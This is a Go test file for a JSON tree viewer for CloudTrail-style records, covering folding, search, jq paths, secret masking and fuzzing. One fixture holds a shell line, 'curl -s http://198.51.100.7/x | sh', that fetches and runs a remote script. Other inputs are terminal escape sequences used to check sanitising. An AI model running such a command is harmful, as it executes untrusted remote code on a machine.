package jsontree

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"spoor/ui/canvas"
)

const record = `{
  "eventName": "PutRolePolicy",
  "big": 123456789012345678901234567890.10,
  "requestParameters": {
    "roleName": "backup",
    "policyDocument": "{\"Statement\":[{\"Action\":[\"s3:*\",\"iam:PassRole\"],\"Effect\":\"Allow\"}]}",
    "odd key.with \"quotes\"": true,
    "empty": {},
    "none": [],
    "list": [1, 2.50, 3e8]
  },
  "responseElements": {
    "assumeRolePolicyDocument": "%7B%22Version%22%3A%222012-10-17%22%2C%22a%20b%22%3A%5B%5D%7D",
    "credentials": {"sessionToken": "IQoJb3JpZ2luSECRET", "accessKeyId": "ASIAEXAMPLE"}
  },
  "again": 1,
  "again": null
}`

func open(t testing.TB, text string) *Tree {
	t.Helper()
	tree, err := New([]byte(text))
	if err != nil {
		t.Fatal(err)
	}
	tree.SetWidth(100)
	return tree
}

// drawn returns the lines of a tree as text.
func drawn(t *Tree) string {
	var b strings.Builder
	for _, row := range t.Rows() {
		b.WriteString(strings.TrimRight(lineText(t.Line(row)), " ") + "\n")
	}
	return b.String()
}

func lineText(line []Span) string {
	var b strings.Builder
	for _, s := range line {
		b.WriteString(s.Text)
	}
	return b.String()
}

// at finds a value by the names and indexes that lead to it.
func at(t testing.TB, tree *Tree, steps ...any) ID {
	t.Helper()
	id := Root
	for _, step := range steps {
		switch s := step.(type) {
		case string:
			id = tree.Member(id, s)
		case int:
			id = tree.Children(id)[s]
		}
		if id == None {
			t.Fatalf("there is no %v", steps)
		}
	}
	return id
}

func TestATreeShowsTheRecordInItsOwnOrderAndDigits(t *testing.T) {
	want := `  eventName  "PutRolePolicy"
  big        123456789012345678901234567890.10
▾ requestParameters
    roleName               "backup"
  ▾ policyDocument JSON in a string
    ▾ Statement [1]
      ▾ 0
        ▾ Action [2]
            0  "s3:*"
            1  "iam:PassRole"
          Effect  "Allow"
    odd key.with "quotes"  true
    empty {}
    none []
  ▾ list [3]
      0  1
      1  2.50
      2  3e8
▾ responseElements
  ▾ assumeRolePolicyDocument JSON in a string, percent-encoded
      Version  "2012-10-17"
      a b []
  ▾ credentials
      sessionToken  •••••••• hidden, 18 characters
      accessKeyId   "ASIAEXAMPLE"
  again      1
  again      null
`
	if got := drawn(open(t, record)); got != want {
		t.Errorf("got\n%s", got)
	}
}

func TestFoldedValuesShowWhatTheyHold(t *testing.T) {
	tree := open(t, record)
	tree.SetWidth(60)
	tree.FoldFrom(1)
	want := `  eventName  "PutRolePolicy"
  big        123456789012345678901234567890.10
▾ requestParameters
    roleName               "backup"
  ▸ policyDocument JSON in a string {Statement: [{Action: […
    odd key.with "quotes"  true
    empty {}
    none []
  ▸ list [3] [1, 2.50, 3e8]
▾ responseElements
  ▸ assumeRolePolicyDocument JSON in a string, percent-enco…
  ▸ credentials {sessionToken: ••••••••, accessKeyId: "ASIA…
  again      1
  again      null
`
	if got := drawn(tree); got != want {
		t.Errorf("got\n%s", got)
	}
}

func TestAPathForJQCanBePastedBetweenSingleQuotes(t *testing.T) {
	name := "it's \x1b]52;\u009b\u202e\u2028 é 鍵 \U000e0041"
	record, err := json.Marshal(map[string]any{name: 1})
	if err != nil {
		t.Fatal(err)
	}
	tree := open(t, string(record))
	want := `.["it\u0027s \u001b]52;\u009b\u202e\u2028 é 鍵 \udb40\udc41"]`
	if got := tree.JQ(at(t, tree, name)); got != want {
		t.Errorf("jq %q, want %q", got, want)
	}
}

func TestPathsLeadToTheValue(t *testing.T) {
	tree := open(t, record)
	for _, c := range []struct {
		id       ID
		path, jq string
		keys     []string
	}{
		{Root, "", ".", nil},
		{at(t, tree, "requestParameters", "list", 1), "requestParameters.list[1]", ".requestParameters.list[1]",
			[]string{"requestParameters", "list"}},
		{at(t, tree, "requestParameters", `odd key.with "quotes"`), `requestParameters.odd key.with "quotes"`,
			`.requestParameters["odd key.with \"quotes\""]`, []string{"requestParameters", `odd key.with "quotes"`}},
		{at(t, tree, "requestParameters", "policyDocument", "Statement", 0, "Action", 1),
			"requestParameters.policyDocument.Statement[0].Action[1]",
			".requestParameters.policyDocument | fromjson | .Statement[0].Action[1]",
			[]string{"requestParameters", "policyDocument", "Statement", "Action"}},
		{at(t, tree, "responseElements", "assumeRolePolicyDocument", "a b"),
			"responseElements.assumeRolePolicyDocument.a b",
			`.responseElements.assumeRolePolicyDocument | @urid | fromjson | .["a b"]`,
			[]string{"responseElements", "assumeRolePolicyDocument", "a b"}},
	} {
		if got := tree.Path(c.id); got != c.path {
			t.Errorf("path %q, want %q", got, c.path)
		}
		if got := tree.JQ(c.id); got != c.jq {
			t.Errorf("jq %q, want %q", got, c.jq)
		}
		if got := tree.Keys(c.id); !slices.Equal(got, c.keys) {
			t.Errorf("keys %q, want %q", got, c.keys)
		}
	}
	if !tree.Reachable(at(t, tree, "requestParameters", "policyDocument", "Statement")) {
		t.Error("a filter reaches into JSON in a string")
	}
	if tree.Reachable(at(t, tree, "responseElements", "assumeRolePolicyDocument", "Version")) {
		t.Error("a filter does not reach into percent-encoded JSON")
	}
}

func TestSiblingsAndParents(t *testing.T) {
	tree := open(t, record)
	params := at(t, tree, "requestParameters")
	role := at(t, tree, "requestParameters", "roleName")
	policy := at(t, tree, "requestParameters", "policyDocument")
	statement := at(t, tree, "requestParameters", "policyDocument", "Statement")
	for what, got := range map[string][2]ID{
		"next of role":        {tree.Next(role), policy},
		"previous of policy":  {tree.Previous(policy), role},
		"previous of role":    {tree.Previous(role), None},
		"parent of statement": {tree.Parent(statement), policy},
		"parent of role":      {tree.Parent(role), params},
		"next of params":      {tree.Next(params), at(t, tree, "responseElements")},
	} {
		if got[0] != got[1] {
			t.Errorf("%s is %d, want %d", what, got[0], got[1])
		}
	}
	tree.SetRoots([]ID{at(t, tree, "responseElements"), params})
	if got := tree.Next(params); got != None {
		t.Errorf("next of the last root is %d", got)
	}
	if got := tree.Previous(params); got != at(t, tree, "responseElements") {
		t.Errorf("previous of the second root is %d", got)
	}
}

func TestSearchFindsNamesAndValuesFoldedAwayOrEmbeddedButNoSecrets(t *testing.T) {
	tree := open(t, record)
	tree.FoldFrom(0)
	for words, want := range map[string]int{
		"passrole": 1, "STATEMENT": 1, "2012": 1, "secret": 0, "again": 2, "role": 4, "nothing like it": 0,
	} {
		if got := tree.Search(words); got != want {
			t.Errorf("%q is found %d times, want %d", words, got, want)
		}
	}
	tree.Search("passrole")
	found := tree.NextFound(None, false)
	tree.Reveal(found)
	if row := tree.RowOf(found); row < 0 {
		t.Fatal("what was found is not shown")
	} else if got := lineText(tree.Line(tree.Rows()[row])); !strings.Contains(got, "PassRole") {
		t.Errorf("the line is %q", got)
	}
}

func TestMatchesOutsideTheRootsAreApartAndThoseInsideInTheOrderShown(t *testing.T) {
	tree := open(t, `{"a":"x","b":{"c":"x"},"d":["x"]}`)
	tree.SetRoots([]ID{at(t, tree, "d"), at(t, tree, "b")})
	tree.Search("x")
	if got, want := tree.Found(), []ID{at(t, tree, "d", 0), at(t, tree, "b", "c")}; !slices.Equal(got, want) {
		t.Errorf("found %v, want %v", got, want)
	}
	if got, want := tree.Hidden(), []ID{at(t, tree, "a")}; !slices.Equal(got, want) {
		t.Errorf("hidden %v, want %v", got, want)
	}
	tree.SetRoots(tree.Children(Root))
	if got := tree.Search("x"); got != 3 {
		t.Errorf("found %d in the whole", got)
	}
}

func TestNextFoundGoesRoundInBothDirections(t *testing.T) {
	tree := open(t, record)
	tree.Search("role")
	all := tree.Found()
	for i, id := range all {
		if got := tree.NextFound(id, false); got != all[(i+1)%len(all)] {
			t.Errorf("after %d comes %d", id, got)
		}
		if got := tree.NextFound(id, true); got != all[(i+len(all)-1)%len(all)] {
			t.Errorf("before %d comes %d", id, got)
		}
		if tree.FoundAt(id) != i {
			t.Errorf("%d is match %d, want %d", id, tree.FoundAt(id), i)
		}
	}
	// From a value that does not match, the next one in the text.
	if got, want := tree.NextFound(at(t, tree, "requestParameters", "list"), false), at(t, tree, "responseElements", "assumeRolePolicyDocument"); got != want {
		t.Errorf("next is %d, want %d", got, want)
	}
}

func TestTheMatchedTextIsMarked(t *testing.T) {
	tree := open(t, `{"userName": "Alice and alice"}`)
	tree.Search("ALICE")
	var marked []string
	for _, s := range tree.Line(tree.Rows()[0]) {
		if s.Match {
			marked = append(marked, s.Text)
		}
	}
	if !slices.Equal(marked, []string{"Alice", "alice"}) {
		t.Errorf("marked %q", marked)
	}
}

func TestALongTextIsCutToItsLineAndCanBeSpread(t *testing.T) {
	tree := open(t, `{"userData":"#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n","short":"a"}`)
	tree.SetWidth(40)
	if got := drawn(tree); got != `▸ userData  "#!/bin/sh␊curl -s http://1…
  short     "a"
` {
		t.Errorf("cut:\n%s", got)
	}
	id := at(t, tree, "userData")
	tree.SetSpread(id, true)
	if got := drawn(tree); got != `▾ userData  45 characters
    #!/bin/sh␊
    curl -s http://198.51.100.7/x | sh␊
  short     "a"
` {
		t.Errorf("spread:\n%s", got)
	}
}

func TestAsMuchIsUnfoldedAsFits(t *testing.T) {
	tree := open(t, record)
	all := len(tree.Rows())
	tree.Fit(all)
	if got := len(tree.Rows()); got != all {
		t.Errorf("%d lines of %d, though all fit", got, all)
	}
	tree.Fit(20)
	if got := len(tree.Rows()); got > 20 || got < 12 {
		t.Errorf("%d lines where 20 fit", got)
	}
}

func TestAStringThatOnlyLooksLikeJSONIsAString(t *testing.T) {
	for _, value := range []string{`"{not json}"`, `"[1,"`, `"%7Bnot%7D"`, `"%zz"`, `"12"`, `"{"`, `""`} {
		tree := open(t, `{"a":`+value+`}`)
		if id := at(t, tree, "a"); tree.Container(id) || tree.Kind(id) != String {
			t.Errorf("%s is taken for JSON", value)
		}
	}
}

func TestValuesComeOutAsTheyStand(t *testing.T) {
	tree := open(t, record)
	for _, c := range []struct {
		id   ID
		want string
	}{
		{at(t, tree, "big"), "123456789012345678901234567890.10"},
		{at(t, tree, "requestParameters", "list"), "[1, 2.50, 3e8]"},
		{at(t, tree, "again"), "null"},
		{at(t, tree, "requestParameters", "policyDocument"), `{"Statement":[{"Action":["s3:*","iam:PassRole"],"Effect":"Allow"}]}`},
		{at(t, tree, "responseElements", "assumeRolePolicyDocument"), "%7B%22Version%22%3A%222012-10-17%22%2C%22a%20b%22%3A%5B%5D%7D"},
	} {
		if got := tree.Value(c.id); got != c.want {
			t.Errorf("%q, want %q", got, c.want)
		}
	}
	if got := tree.Value(Root); got != record {
		t.Error("the whole is not what was given")
	}
}

// anyJSON draws JSON texts, with JSON in strings among them.
func anyJSON(depth int) *rapid.Generator[string] {
	return rapid.Custom(func(t *rapid.T) string {
		kind := rapid.IntRange(0, 6).Draw(t, "kind")
		if depth == 0 {
			kind %= 4
		}
		switch kind {
		case 0:
			return rapid.SampledFrom([]string{"null", "true", "false", "0", "-1.50e+9", "12345678901234567890"}).Draw(t, "scalar")
		case 1, 2:
			s, _ := json.Marshal(rapid.OneOf(rapid.String(), rapid.SampledFrom([]string{
				"\x1b]52;c;x\a", "\u202eabc", "漢字", "a\nb", strings.Repeat("x", 300), "👨‍👩‍👧", "\u0301",
			})).Draw(t, "text"))
			return string(s)
		case 3:
			return rapid.SampledFrom([]string{"{}", "[]", " [ ] ", `"\ud800"`, `"\/\u0041"`}).Draw(t, "small")
		case 4:
			inner, _ := json.Marshal(anyJSON(depth-1).Draw(t, "embedded"))
			return string(inner)
		}
		var parts []string
		for range rapid.IntRange(0, 4).Draw(t, "count") {
			part := anyJSON(depth-1).Draw(t, "child")
			if kind == 5 {
				name, _ := json.Marshal(rapid.OneOf(rapid.String(), rapid.SampledFrom([]string{"a", "b", "a.b", ""})).Draw(t, "name"))
				part = string(name) + " : " + part
			}
			parts = append(parts, part)
		}
		if kind == 5 {
			return "{" + strings.Join(parts, " ,") + "}"
		}
		return "[" + strings.Join(parts, ", ") + " ]"
	})
}

// naive is what a walk over the text with encoding/json shows: an entry for
// each child of an object or array, with its depth.
func naive(text string, depth int) []string {
	d := json.NewDecoder(strings.NewReader(text))
	d.UseNumber()
	opening, _ := d.Token()
	return naiveChildren(d, opening == json.Delim('{'), depth)
}

func naiveChildren(d *json.Decoder, object bool, depth int) []string {
	var out []string
	for d.More() {
		if object {
			_, _ = d.Token()
		}
		token, _ := d.Token()
		delim, container := token.(json.Delim)
		text, _ := token.(string)
		switch {
		case container:
			out = append(out, fmt.Sprintf("%d container", depth))
			out = append(out, naiveChildren(d, delim == '{', depth+1)...)
		case len(text) > 1 && (text[0] == '{' || text[0] == '[') && json.Valid([]byte(text)):
			out = append(out, fmt.Sprintf("%d container", depth))
			out = append(out, naive(text, depth+1)...)
		default:
			out = append(out, fmt.Sprintf("%d %v", depth, token))
		}
	}
	_, _ = d.Token()
	return out
}

func TestTheRowsOfAnyJSONAreThoseOfANaiveWalk(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		text := "[" + anyJSON(4).Draw(t, "text") + "]"
		tree, err := New([]byte(text))
		if err != nil {
			t.Fatal(err)
		}
		tree.SetWidth(60)
		want := naive(text, 0)
		var got []string
		for _, row := range tree.Rows() {
			depth := tree.nodes[row.ID].depth
			switch {
			case tree.Container(row.ID):
				got = append(got, fmt.Sprintf("%d container", depth))
			case tree.Kind(row.ID) == Null:
				got = append(got, fmt.Sprintf("%d <nil>", depth))
			default:
				got = append(got, fmt.Sprintf("%d %s", depth, strings.ToValidUTF8(tree.Value(row.ID), "\uFFFD")))
			}
		}
		if !slices.Equal(got, want) {
			t.Fatalf("%s\nrows %q\nwant %q", text, got, want)
		}
	})
}

func TestNoLineIsWiderThanTheTreeNorHoldsAControlCharacter(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		tree, err := New([]byte(anyJSON(4).Draw(t, "text")))
		if err != nil {
			t.Fatal(err)
		}
		width := rapid.IntRange(12, 80).Draw(t, "width")
		tree.SetWidth(width)
		tree.FoldFrom(rapid.IntRange(0, 5).Draw(t, "level"))
		if rapid.Bool().Draw(t, "spread") {
			for id := range tree.nodes {
				if tree.Long(ID(id)) {
					tree.SetSpread(ID(id), true)
				}
			}
		}
		tree.Search(rapid.SampledFrom([]string{"", "a", "漢", "X"}).Draw(t, "words"))
		for _, row := range tree.Rows() {
			line := lineText(tree.Line(row))
			if w := canvas.Width(line); w > width {
				t.Fatalf("%q is %d wide, not %d", line, w, width)
			}
			for _, r := range line {
				if r < 0x20 || r >= 0x7f && r < 0xa0 || r == 0x202e {
					t.Fatalf("%q holds %U", line, r)
				}
			}
		}
	})
}

func FuzzAnyBytesAreATreeOrAnError(f *testing.F) {
	f.Add([]byte(record))
	f.Add([]byte(`"text"`))
	f.Add([]byte(`[[[[[[]]]],"[\"[1]\"]"]]`))
	f.Add([]byte(`{"a":"\ud800\udc00\ud800x","a":"\u0000"}`))
	f.Add([]byte("{\"a\":\"\xff\xfe\"}"))
	f.Add([]byte(strings.Repeat("[", 3000) + strings.Repeat("]", 3000)))
	f.Fuzz(func(t *testing.T, text []byte) {
		tree, err := New(text)
		if json.Valid(text) != (err == nil) {
			t.Fatalf("error %v", err)
		}
		if err != nil {
			return
		}
		tree.SetWidth(40)
		tree.Search("a")
		tree.Fit(50)
		for _, row := range tree.Rows() {
			tree.Line(row)
			_, _, _ = tree.Path(row.ID), tree.JQ(row.ID), tree.Keys(row.ID)
			_, _ = tree.Next(row.ID), tree.Previous(row.ID)
		}
	})
}

// large is a record at CloudTrail's limit of 256 KB with a value of 60 KB.
func large() string {
	var b strings.Builder
	b.WriteString(`{"requestParameters":{"userData":"` + strings.Repeat("x", 60_000) + `","items":[`)
	for i := 0; b.Len() < 250_000; i++ {
		if i > 0 {
			b.WriteByte(',')
		}
		fmt.Fprintf(&b, `{"instanceId":"i-%08d","state":{"code":%d}}`, i, i)
	}
	b.WriteString(`]}}`)
	return b.String()
}

func BenchmarkOpenTheLargestRecord(b *testing.B) {
	text := []byte(large())
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	for b.Loop() {
		tree, err := New(text)
		if err != nil {
			b.Fatal(err)
		}
		tree.SetWidth(80)
		tree.Fit(200)
	}
}

func BenchmarkDrawAScreenOfTheLargestRecord(b *testing.B) {
	tree := open(b, large())
	rows := tree.Rows()[:60]
	b.ReportAllocs()
	for b.Loop() {
		for _, row := range rows {
			tree.Line(row)
		}
	}
}

func BenchmarkSearchTheLargestRecord(b *testing.B) {
	tree := open(b, large())
	for i := 0; b.Loop(); i++ {
		tree.Search([]string{"i-0000", "code"}[i%2])
	}
}

func TestAnARNKeepsItsEnd(t *testing.T) {
	tree := open(t, `{"arn": "arn:aws:iam::111122223333:role/a-long-path/payments", "text": "a sentence that is as long as that one is"}`)
	tree.SetWidth(40)
	want := "▸ arn   \"arn:aws:iam::11…-path/payments\"\n"
	if got := drawn(tree); !strings.Contains(got, want) || !strings.Contains(got, "as long as …\n") {
		t.Errorf("drawn as\n%s", got)
	}
}
